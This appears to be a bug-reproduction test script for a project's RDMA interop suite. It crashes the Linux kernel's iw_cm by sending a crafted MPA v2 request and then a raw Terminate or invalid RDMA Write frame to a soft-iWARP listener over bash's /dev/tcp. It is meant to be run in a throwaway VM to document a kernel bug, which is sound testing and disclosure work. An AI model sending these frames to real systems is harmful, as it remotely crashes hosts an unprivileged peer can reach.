#!/bin/bash
# iwcm_close_repro.sh - makes the Linux kernel's iw_cm hit its BUG() in
# cm_close_handler (drivers/infiniband/core/iwcm.c, "kernel BUG at
# drivers/infiniband/core/iwcm.c:969!" on 6.1.192) from an unprivileged TCP
# peer of a soft-iWARP (siw) listener: the peer sends an MPA v2 request
# that asks for a ready-to-receive frame (peer-to-peer mode, RTR by RDMA
# Write), reads siw's MPA reply, and sends a Terminate (or a Write siw
# refuses) instead of the RTR. See docs/iwcm-close-bug.md.
#
# Run it in a throw-away VM only (the kernel stops): for example
#   ../shared/interop/vm.sh -l console.txt -s interop/iwcm_close_repro.sh
# It needs rping (rdmacm-utils) and siw0 on 192.0.2.1 (vm.sh's default
# links), and uses bash's /dev/tcp.
ADDR=${ADDR:-192.0.2.1}
PORT=${PORT:-7400}

timeout 20 rping -s -a "$ADDR" -p "$PORT" -C 1 -v >/tmp/rping.log 2>&1 &
for i in $(seq 100); do
	ss -Hltn "sport = :$PORT" | grep -q . && break
	sleep 0.1
done

# MPA request: key, flags (Enhanced) and revision 2, private data length 4,
# then RFC 6581's IRD and ORD: IRD 1 with the peer-to-peer bit, ORD 1
# asking for a zero-length RDMA Write or Read as the RTR.
exec 3<>"/dev/tcp/$ADDR/$PORT"
printf 'MPA ID Req Frame\x10\x02\x00\x04\x80\x01\xc0\x01' >&3
# siw's MPA reply: 20 bytes of header and its 4 bytes of IRD/ORD.
reply=$(timeout 5 head -c 24 <&3 | od -An -c | tr -s ' ')
echo "MPA reply: $reply"
# Instead of the RTR, FRAME (default terminate) goes first:
#   terminate  an RDMAP Terminate (untagged, QN 2, MSN 1; layer/type/code
#              0x2/0x0/0x05), as an initiator that gives up would send;
#   write      an RDMA Write of 4 bytes through an STag siw does not know.
# siw drops the connection from its receive path before it reported
# ESTABLISHED for the accepted id (it reports that only after the first
# frame went through), and iw_cm gets CLOSE for an id still in CONN_RECV.
# Each is one FPDU: ULPDU length, DDP and RDMAP control, the header, the
# payload, and the (unused, CRC is off) CRC field.
case ${FRAME:-terminate} in
terminate) printf '\x00\x16\x41\x47\x00\x00\x00\x00\x00\x00\x00\x02\x00\x00\x00\x01\x00\x00\x00\x00\x20\x05\x00\x00\x00\x00\x00\x00' >&3 ;;
write) printf '\x00\x12\xc1\x40\x12\x34\x56\x78\x00\x00\x00\x00\x00\x00\x00\x00abcd\x00\x00\x00\x00' >&3 ;;
esac
sleep 1
exec 3>&-
sleep 3
echo "kernel log:"
dmesg | tail -n 40
